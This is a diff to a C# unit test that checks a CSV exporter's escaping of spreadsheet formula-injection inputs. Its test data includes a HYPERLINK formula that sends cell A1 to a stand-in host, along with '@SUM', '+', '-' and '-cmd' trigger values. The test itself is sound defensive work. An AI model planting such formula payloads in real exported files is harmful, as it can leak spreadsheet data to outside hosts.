@@ -97,10 +97,11 @@ public sealed class RiskGeneratorTests
 
         var cells = text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1).SelectMany(l => l.Split(',')).ToArray();
         Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
-        Assert.Equal(["%3DHYPERLINK(%22http://x/?%22&A1%2C%22x%22)", "%2B1+1", "%2D2+3", "%40SUM(1)", "%09x", "%253D1", "%3D1", "a=b-c"],
-            read.Select(r => r.Event.DeviceFingerprint));
-        Assert.Equal(devices.Length, read.Select(r => r.Event.DeviceFingerprint).Distinct().Count());
-        Assert.Equal("%2Dcmd", read[0].Event.SkuCategory);
+        Assert.Contains("%3DHYPERLINK(%22http://x/?%22&A1%2C%22x%22)", cells);
+        Assert.Contains("%253D1", cells);
+        // Read back as written, so a value is the same key in files of this release and of earlier ones.
+        Assert.Equal(devices, read.Select(r => r.Event.DeviceFingerprint));
+        Assert.Equal("-cmd", read[0].Event.SkuCategory);
     }
 
     [Fact]
